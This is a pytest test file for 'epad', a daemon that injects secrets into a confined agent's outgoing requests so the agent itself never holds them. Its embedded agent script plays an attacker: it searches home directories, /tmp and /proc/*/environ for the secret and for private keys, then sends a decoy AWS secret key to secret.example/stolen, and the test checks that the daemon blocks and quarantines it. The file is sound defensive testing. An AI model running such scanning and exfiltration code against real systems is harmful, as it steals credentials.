"""Secrets by reference under the installed daemon: the server has the value, and the agent has it nowhere."""

from __future__ import annotations

import json
import os
import shutil
import ssl
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from certificates import certificate
from installed import QUICK, Installation, installation
from machine_lacks import is_lacking

pytestmark = pytest.mark.skipif(
    is_lacking("root"), reason="only root may listen at port 443, where secrets go"
)

HOST, OTHER = "secret.example", "other.example"
ADDRESS = f"127.{os.getpid() % 250 + 1}.{os.getpid() // 250 % 250}.1"
"""Of this process alone: tests run side by side."""
HALVES = ("the-real-val", "ue-of-the-token-8412")
"""In two, so that the agent can look for it without being told it."""
VALUE = "".join(HALVES)

# Asks by programs that know nothing of epad, looks for the secret in all that it can read, then asks again and again.
AGENT = """
import base64, json, os, subprocess, sys, time, urllib.error, urllib.request
bearer, found = "Authorization: Bearer {{secret:token}}", {}
wanted = "".join(HALVES).encode()
def ask(url):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=dict([bearer.split(": ")]))) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.read().decode()
    except OSError as error:
        return repr(error)
def run(*command):
    done = subprocess.run(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    return f"{done.returncode} {done.stdout}"
curl = ("curl", "-sS", "--fail-with-body")
found["urllib"] = ask(f"https://{HOST}/urllib")
found["curl"] = run(*curl, "-H", bearer, f"https://{HOST}/curl")
found["password"] = run(*curl, "-u", "me:{{secret:token}}", f"https://{HOST}/password")
found["git"] = run("git", "-c", f"http.extraHeader={bearer}", "ls-remote", f"https://{HOST}/git")
found["by port 80"] = ask(f"http://{HOST}/plain")
found["other"] = ask(f"https://{OTHER}/other")
seen, trusted = [SECRET], os.path.dirname(os.environ["SSL_CERT_FILE"])
for root in (".", "/tmp", "/run", os.path.expanduser("~"), "/home", "/var/tmp", trusted):
    for place, below, names in os.walk(root):
        below[:] = [name for name in below if os.path.join(place, name) not in (sys.prefix, sys.base_prefix)]
        seen += [os.path.join(place, name) for name in names]
for pid in filter(str.isdecimal, os.listdir("/proc")):
    seen += [f"/proc/{pid}/environ", f"/proc/{pid}/cmdline"]
def holds(path, what):
    try:
        return os.path.isfile(path) and what in open(path, "rb").read()
    except OSError:
        return False
found["value in"] = [path for path in seen if holds(path, wanted) or holds(path, base64.b64encode(b"me:" + wanted))]
found["keys in"] = [path for path in seen if holds(path, b"PRIVATE" + b" KEY")]
found["bundle"] = open(os.environ["SSL_CERT_FILE"]).read().count("BEGIN CERTIFICATE")
open("found.new", "w").write(json.dumps(found))
os.rename("found.new", "found")
while not os.path.exists("steal"):
    ask(f"https://{HOST}/again")
    time.sleep(0.1)
bearer = "X-Key: " + os.environ["BACKUP_AWS_SECRET_ACCESS_KEY"]
ask(f"https://{HOST}/stolen")
time.sleep(600)
"""


class Seen(ThreadingHTTPServer):
    """A server of both hosts over TLS, that keeps the path and the credentials of each request."""

    def __init__(self, pem: Path) -> None:
        super().__init__((ADDRESS, 443), Handler)
        self.socket = certificate(pem, HOST, OTHER).wrap_socket(self.socket, server_side=True)
        self.seen: list[tuple[str, str]] = []

    def handle_error(self, request: object, client_address: object) -> None:
        """Say nothing of connections that end."""


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        assert isinstance(self.server, Seen)
        self.server.seen.append((self.path.partition("?")[0], self.headers.get("Authorization") or ""))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        with suppress(OSError, ssl.SSLError):
            self.wfile.write(b"ok")

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 (its name in the library)
        """Say nothing."""


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[Seen]:
    """The server, whose root the machine trusts: in a directory that the way out can read, which is nobody's."""
    place = Path(tempfile.mkdtemp(prefix="epad-roots-", dir="/var/tmp"))
    place.chmod(0o755)
    monkeypatch.setenv("SSL_CERT_FILE", str(place / "pem"))
    with Seen(place / "pem") as one:
        threading.Thread(target=one.serve_forever, daemon=True).start()
        yield one
        one.shutdown()
    shutil.rmtree(place)


def tables(secret: Path) -> str:
    """Return a secret of the host, and an agent whose requests to both hosts are read."""
    values = f"HOST, OTHER, HALVES, SECRET = {HOST!r}, {OTHER!r}, {HALVES!r}, {str(secret)!r}\n"
    return f"""
[secrets.token]
file = "{secret}"
hosts = ["{HOST}"]
[subsystems.agent]
command = {json.dumps([sys.executable, "-S", "-c", values + AGENT])}
[subsystems.agent.confine]
hosts = ["{HOST}={ADDRESS}", "{HOST}={ADDRESS}:80", "{OTHER}={ADDRESS}"]
intercept = ["{HOST}", "{OTHER}"]
secrets = ["token"]
decoys = true
"""


def leaks(house: Installation, secret: Path) -> list[str]:
    """Return the files of the daemon's, and the words of its events, that hold the value."""
    files = [path for path in house.directory.rglob("*") if path.is_file() and path != secret]
    held = [str(path) for path in files if VALUE.encode() in path.read_bytes()]
    events = "".join(map(json.dumps, house.client().lines("/v1/events", {"since": "0", "limit": "1000"})))
    return [*held, *(["the events"] if VALUE in events else [])]


def test_an_agent_uses_a_secret_that_it_never_has(server: Seen) -> None:
    """By unmodified programs over TLS; also under the next daemon, for which nothing in the cell has changed."""
    with installation() as house:
        secret = house.directory / "token"
        secret.write_text(f"{VALUE}\n")
        secret.chmod(0o400)
        house.config.write_text(QUICK + tables(secret))
        house.start()
        work = house.state / "subsystems/agent"
        house.wait((work / "found").exists, "the agent's findings")
        found = json.loads((work / "found").read_text())
        by_path = dict(server.seen)
        basic = "Basic bWU6dGhlLXJlYWwtdmFsdWUtb2YtdGhlLXRva2VuLTg0MTI="
        assert by_path["/urllib"] == by_path["/curl"] == by_path["/plain"] == f"Bearer {VALUE}", found
        assert by_path["/password"] == basic
        assert by_path["/git/info/refs"] == f"Bearer {VALUE}", found["git"]
        assert (found["urllib"], found["curl"], found["by port 80"]) == ("ok", "0 ok", "ok")
        assert "the secret token is not for other.example" in found["other"]
        assert "/other" not in by_path
        assert (found["value in"], found["keys in"], found["bundle"]) == ([], [], 2)
        opened = [event["fields"] for event in house.events("egress.opened")]
        assert (HOST, 443, "intercept") in {(one["host"], one["port"], one["how"]) for one in opened}
        assert leaks(house, secret) == []

        house.kill()
        before = len(server.seen)
        house.start()
        house.wait(lambda: len(server.seen) > before + 1, "the agent to be answered under the next daemon")
        assert server.seen[-1] == ("/again", f"Bearer {VALUE}")

        (work / "steal").touch()
        house.wait(lambda: house.subsystem("agent")["state"] == "quarantined", "the decoy to be found")
        assert "/stolen" not in dict(server.seen)
        assert house.events("egress.refused")[-1]["fields"]["why"] == "decoy"
        assert leaks(house, secret) == []


def test_a_key_of_a_cell_s_authority_ends_with_the_cell(server: Seen) -> None:
    """While it lives its owner alone can read it; the daemon itself has not loaded the library."""
    with installation() as house:
        secret = house.directory / "token"
        secret.write_text(VALUE)
        house.config.write_text(QUICK + tables(secret))
        house.start()
        house.wait(lambda: "/again" in dict(server.seen), "a request")
        key = house.state / "cells/agent.authority"
        assert key.stat().st_mode & 0o777 == 0o600
        first = key.read_bytes()
        assert house.process is not None
        assert "_rust.abi3" not in Path(f"/proc/{house.process.pid}/maps").read_text()
        server.seen.clear()
        assert house.ctl("restart", "agent", "--reason", "a test").returncode == 0
        house.wait(lambda: "/again" in dict(server.seen), "a request of the next cell")
        assert key.read_bytes() != first
        assert house.ctl("stop", "agent", "--reason", "a test").returncode == 0
        house.wait(lambda: not key.exists(), "the key to be deleted")
